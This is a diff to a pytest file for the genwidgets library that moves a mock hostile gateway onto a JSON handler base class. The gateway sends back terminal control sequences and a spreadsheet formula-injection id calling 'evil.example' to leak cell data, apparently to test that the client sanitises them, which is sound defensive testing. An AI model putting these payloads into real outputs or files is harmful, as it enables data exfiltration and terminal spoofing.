@@ -18,11 +18,10 @@ import sys
 import time
 from collections.abc import Iterator
 from pathlib import Path
-from typing import Any
 from urllib.parse import unquote
 
 import pytest
-from loopback import LoopbackServer, QuietHandler
+from loopback import JsonHandler, LoopbackServer
 
 import genwidgets as gw
 from genwidgets._formats import terminal_text
@@ -48,7 +47,7 @@ REFUSED_IDS = {"refused-id": "req-{n}" + CLIPBOARD, "sneaky-id": "req-{n}" + SNE
 FORMULA_ID = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
 
 
-class HostileGateway(QuietHandler):
+class HostileGateway(JsonHandler):
     """The queue protocol with control sequences in every text it sends back. A create
     whose prompt says ``refused-id`` gets an id with ESC, ``sneaky-id`` one with a C1
     and a bidi override, ``formula-id`` one shaped as a spreadsheet's formula;
@@ -57,33 +56,24 @@ class HostileGateway(QuietHandler):
 
     ids = itertools.count()
 
-    def _send(self, code: int, body: dict[str, Any]) -> None:
-        data = json.dumps(body).encode()
-        self.send_response(code)
-        self.send_header("Content-Type", "application/json")
-        self.send_header("Content-Length", str(len(data)))
-        self.end_headers()
-        self.wfile.write(data)
-
     def do_POST(self) -> None:
         payload = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
         asked, n = json.dumps(payload), next(self.ids)
         refused = [rid for word, rid in REFUSED_IDS.items() if word in asked]
         rid = refused[0] if refused else FORMULA_ID if "formula-id" in asked else KEPT_ID
         rid = rid.format(n=n) if rid != FORMULA_ID else rid
-        self._send(200, {"request_id": rid, "queue_position": 0})
+        self.send_json({"request_id": rid, "queue_position": 0})
 
     def do_GET(self) -> None:
         parts = self.path.split("?")[0].strip("/").split("/")
         rid, op = unquote(parts[-2]), parts[-1]
         if rid.startswith("broken"):
-            self._send(400, {"detail": f"no such task{CLEAR}{CLIPBOARD}", "error": ERROR})
+            self.send_json({"detail": f"no such task{CLEAR}{CLIPBOARD}", "error": ERROR}, 400)
         elif op == "status" or rid.startswith("stuck"):
             word = STATUS if rid.startswith("stuck") else "COMPLETED"
-            self._send(200, {"request_id": rid, "status": word, "logs": [{"message": LOG}]})
+            self.send_json({"request_id": rid, "status": word, "logs": [{"message": LOG}]})
         else:
-            self._send(
-                200,
+            self.send_json(
                 {"request_id": rid, "status": "COMPLETED", "error": ERROR,
                  "error_type": ERROR_TYPE, "outputs": [], "logs": [LOG]},
             )  # fmt: skip
